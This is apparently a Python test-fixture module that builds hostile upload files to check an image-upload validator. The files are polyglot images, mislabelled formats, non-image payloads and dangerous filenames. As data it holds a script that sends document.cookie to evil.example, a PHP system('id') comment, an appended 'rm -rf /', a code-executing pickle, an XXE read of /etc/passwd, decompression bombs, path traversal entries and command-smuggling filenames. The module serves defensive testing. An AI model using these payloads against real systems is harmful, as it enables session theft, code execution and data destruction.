"""Files that are two things at once, that are no picture that the page takes, or badly named."""

from __future__ import annotations

import gzip
import io
import itertools
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import numpy as np
from bombs import KINDS, Hostile, encode
from PIL import Image, PngImagePlugin

HTML = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"


def _zip(name: str = "a.txt", content: bytes = b"hello") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, content)
    return file.getvalue()


def polyglots(image: Image.Image) -> Iterator[Hostile]:
    """Pictures with something else in or behind them, and wrong endings."""
    archive = _zip("../../etc/passwd", b"root")
    yield Hostile("jpeg-and-zip.jpeg", encode(image, "JPEG") + archive, "picture")
    yield Hostile(
        "jpeg-and-php.jpeg", encode(image, "JPEG", comment=b"<?php system('id') ?>"), "picture"
    )
    yield Hostile("gif-and-html.gif", encode(image, "GIF") + HTML, "picture")
    yield Hostile("gif-and-script.gif", b"GIF89a/*" + encode(image, "GIF")[8:] + b"*/=1;alert(1)//")
    note = PngImagePlugin.PngInfo()
    note.add_text("Comment", HTML.decode())
    yield Hostile("png-and-html.png", encode(image, "PNG", pnginfo=note) + HTML, "picture")
    yield Hostile("pdf-and-jpeg.jpeg", b"%PDF-1.7\n" + encode(image, "JPEG"), "refused")
    yield Hostile("html-and-png.html", HTML + encode(image, "PNG"), "refused")
    yield Hostile("bmp-and-shell.bmp", encode(image, "BMP") + b"\n#!/bin/sh\nrm -rf /\n", "picture")
    for kind, ending in itertools.pairwise((*KINDS, KINDS[0])):
        yield Hostile(f"in-truth-{kind.lower()}.{ending.lower()}", encode(image, kind), "picture")
    for ending in ("exe", "html", "svg", "txt", "tar.gz"):
        yield Hostile(f"in-truth-png.{ending}", encode(image, "PNG"), "picture")


WRITTEN = ("BLP", "DDS", "DIB", "EPS", "ICNS", "ICO", "IM", "JPEG2000", "PCX", "PDF")
WRITTEN += ("QOI", "SGI", "SPIDER", "TGA", "MSP", "PALM", "XBM")
MODE = {"BLP": "P", "SPIDER": "F", "MSP": "1", "PALM": "P", "XBM": "1"}
HEADS = {
    "psd": b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 64, 64, 8, 3),
    "fits": b"SIMPLE  =                    T".ljust(80) + b"END".ljust(80),
    "wmf": b"\xd7\xcd\xc6\x9a\0\0" + bytes(40),
    "emf": b"\1\0\0\0" + bytes(36) + b" EMF" + bytes(40),
    "cur": b"\0\0\2\0\1\0" + bytes(60),
    "fli": b"\0\2\0\0\x11\xaf" + bytes(120),
    "sun.ras": b"\x59\xa6\x6a\x95" + struct.pack(">7I", 64, 64, 8, 4096, 1, 0, 0),
    "xpm": b'/* XPM */\nstatic char *x[] = {"64 64 1 1", "a c #000000"};',
    "pixar": b"\200\350\000\000" + bytes(1024),
    "gbr": struct.pack(">IIIII", 28, 2, 64, 64, 1) + b"GIMP" + bytes(4),
    "hdf5": b"\x89HDF\r\n\x1a\n" + bytes(99),
    "grib": b"GRIB" + bytes(99),
    "bufr": b"BUFR" + bytes(99),
    "mpeg": b"\0\0\1\xb3\x04\0\x40" + bytes(99),
    "jxl": b"\0\0\0\x0cJXL \r\n\x87\n" + bytes(99),
    "heic": struct.pack(">I", 24) + b"ftypheic" + bytes(12),
    "pcd": bytes(2048) + b"PCD_" + bytes(2048),
    "xv": b"P7 332" + bytes(99),
}


def other_formats(image: Image.Image) -> Iterator[Hostile]:
    """What else Pillow would open."""
    for kind in WRITTEN:
        data = encode(image.convert(MODE.get(kind, "RGB")), kind)
        yield Hostile(f"good.{kind.lower()}", data, "refused")
        yield Hostile(f"cut.{kind.lower()}", data[: len(data) // 2], "refused")
    yield Hostile("good.mpo", encode(image, "MPO", save_all=True, append_images=[image]), "picture")
    for ending, head in HEADS.items():
        yield Hostile(f"head.{ending}", head, "refused")


class _Evil:
    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return eval, ("__import__('os').abort()",)


def no_pictures(random: np.random.Generator) -> Iterator[Hostile]:
    """What else people and programs send."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        tar.addfile(tarfile.TarInfo("../../etc/cron.d/evil"))
    evil = pickle.dumps(_Evil())
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = "<svg xmlns='http://www.w3.org/2000/svg' width='99' height='99'"
    others = {
        "empty.png": b"",
        "one-byte.png": b"\x89",
        "text.png": b"hello, world\n" * 9,
        "zeros.png": bytes(1 << 20),
        "noise.png": random.bytes(1 << 20),
        "signature-alone.png": b"\x89PNG\r\n\x1a\n",
        "signature-alone.jpeg": b"\xff\xd8\xff",
        "signature-alone.gif": b"GIF89a",
        "signature-alone.webp": b"RIFF\xff\xff\xff\xffWEBP",
        "script.svg": f"{head} onload='alert(1)'><script>alert(1)</script></svg>".encode(),
        "entity.svg": f"<!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{head}>&x;</svg>".encode(),
        "laughs.svg": f"<!DOCTYPE s [<!ENTITY l0 'ha'>{entities}]>{head}>&l9;</svg>".encode(),
        "page.html": b"<!doctype html>" + HTML,
        "archive.zip": _zip(),
        "bomb.zip": _zip("zeros", bytes(10 << 20)),
        "bomb.gz": gzip.compress(bytes(10 << 20)),
        "traversal.tar": packed.getvalue(),
        "evil.pickle": evil,
        "evil.pt": _zip("archive/data.pkl", evil),
        "array.npy": b"\x93NUMPY\1\0v\0{'descr': '|O', 'fortran_order': False, 'shape': (9,)}"
        + evil,
        "program.exe": b"MZ\x90\0" + bytes(200),
        "program.elf": b"\x7fELF\2\1\1" + bytes(200),
        "film.mp4": struct.pack(">I", 24) + b"ftypisom" + bytes(99),
        "sound.wav": b"RIFF\x24\0\0\0WAVEfmt " + bytes(99),
        "weights.safetensors": struct.pack("<Q", 2) + b"{}",
        "numbers.json": b"[" * 10_000,
        "utf16.txt": "picture".encode("utf-16"),
    }  # fmt: skip
    for name, content in others.items():
        yield Hostile(name, content, "refused")


def names(image: Image.Image) -> Iterator[Hostile]:
    """Names that would do harm where they are trusted."""
    good = encode(image, "PNG")
    for name in (
        "<img src=x onerror=alert(1)>.png",
        "..%2f..%2fetc%2fpasswd.png",
        "name\u202egnp.exe.png",
        "new\nline.png",
        "{weights}%s$HOME`id`.png",
        "猫" * 60 + ".png",
        "-rf.png",
        ".hidden.png",
        "con.png",
    ):
        yield Hostile(name, good, "picture")
        yield Hostile(f"cut {name}"[:200], good[:99], "refused")
